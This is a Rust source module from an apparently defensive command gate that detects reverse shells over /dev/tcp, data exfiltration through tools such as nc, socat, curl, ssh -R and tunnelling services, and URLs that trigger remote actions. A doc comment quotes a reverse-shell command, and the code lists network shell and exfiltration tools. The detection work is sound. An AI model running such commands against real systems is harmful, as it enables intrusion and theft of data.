//! Shells wired to the network, and data sent away.

use super::Cmd;
use super::programs::is_shell;
use crate::parse::Arg;

/// A shell whose input or output is redirected to `/dev/tcp/…` (`bash -i >& /dev/tcp/h/p 0>&1`),
/// or `exec N<>/dev/tcp/…`.
pub(super) fn dev_tcp_shell(c: &Cmd<'_>, dev_tcp: impl Fn(&str) -> bool) -> bool {
    let on_socket =
        c.writes.iter().any(|w| dev_tcp(&w.target)) || c.reads.iter().any(|r| dev_tcp(r));
    on_socket && (is_shell(c.name) || c.name == "exec" || c.name.is_empty())
}

/// Data leaving the machine by a channel the gate cannot inspect.
pub(super) fn exfiltrates(c: &Cmd<'_>) -> bool {
    let subst = |a: &Arg| a.text.is_none() && (a.raw.contains("$(") || a.raw.contains('`'));
    match c.name {
        "nc" | "ncat" | "netcat" | "telnet" | "nc.traditional" | "nc.openbsd" => {
            // A connection (not a scan, not a listener) carrying input.
            !c.flag("--listen", Some('l')) && !c.flag("-z", Some('z')) && c.operands().count() >= 1
        }
        "socat" => c.words().any(|w| {
            let l = w.to_ascii_uppercase();
            (l.starts_with("TCP:")
                || l.starts_with("TCP4:")
                || l.starts_with("UDP:")
                || l.starts_with("OPENSSL:")
                || l.starts_with("SSL:"))
                && !l.contains("LOCALHOST")
                && !l.contains("127.0.0.1")
        }),
        "openssl" => c.sub() == Some("s_client") && !c.reads.is_empty(),
        "nslookup" | "dig" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "resolvectl" => {
            c.args.iter().any(subst)
        }
        "curl" | "wget" | "http" | "https" | "xh" | "fetch" => c.args.iter().any(|a| {
            subst(a) && (a.raw.contains("://") || a.raw.contains('?') || a.raw.contains('.'))
        }),
        "ssh" => c
            .words()
            .any(|w| w == "-R" || w.starts_with("-R") && w.len() > 2),
        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "bore" | "frpc" | "tailscale" => {
            match c.name {
                "cloudflared" => c.has("tunnel"),
                "tailscale" => c.has("funnel") || c.has("serve"),
                // Asking how a tunnel stands opens none (`frpc status`, `frpc verify -c f`).
                _ => !matches!(c.sub(), Some("status" | "verify" | "version" | "help")),
            }
        }
        "mail" | "mailx" | "sendmail" | "mutt" | "swaks" => true,
        _ => false,
    }
}

/// A request that acts, whatever its method: a web API's endpoint named for an act
/// (`…/shutdown?password=…`, `/cgi-bin/sendsms?…`), or an act given as a query's value
/// (`json.htm?type=command&param=deletedevice`). Only an address with a query string is a
/// call: a file fetched by its name (`…/install.sh`, `…/releases/download/…`) is no act.
///
/// On this machine's own service (`http://localhost:5555/shutdown`) the path alone is the
/// call: nobody downloads a file by an act's name without an extension from a local port.
pub(super) fn calls_an_act(c: &Cmd<'_>) -> bool {
    c.words().any(|w| {
        let w = w.trim_matches(['"', '\'']);
        let (address, query) = w.split_once('?').unwrap_or((w, ""));
        let Some((_, rest)) = address.split_once("://") else {
            return false;
        };
        let Some((host, path)) = rest.split_once('/') else {
            return false;
        };
        if query.is_empty() && !crate::shells::loopback(host) {
            return false;
        }
        let last = path.rsplit('/').next().unwrap_or("");
        // A page's own extension is still the endpoint (`sendsms.php`); any other names a
        // file.
        let endpoint = match last.split_once('.') {
            None => last,
            Some((stem, ext)) if DYNAMIC_PAGES.contains(&ext) => stem,
            Some(_) => "",
        };
        let values = query
            .split('&')
            .filter_map(|pair| pair.split_once('=').map(|(_, v)| v));
        std::iter::once(endpoint).chain(values).any(names_an_act)
    })
}

/// Extensions of a page a server runs, not a file it hands out.
const DYNAMIC_PAGES: &[&str] = &[
    "action", "asp", "aspx", "cgi", "do", "fcgi", "htm", "html", "json", "jsp", "php", "pl", "xml",
];

/// Whether one word of an address names an act (`shutdown`, `deletedevice`, `off_hard`), as
/// a subcommand would; a value with anything but a name's letters in it is data.
fn names_an_act(word: &str) -> bool {
    (2..=40).contains(&word.len())
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
        && (crate::effect::names_an_act(word)
            || crate::text::words(word)
                .first()
                .is_some_and(|p| crate::effect::names_an_act(p)))
}
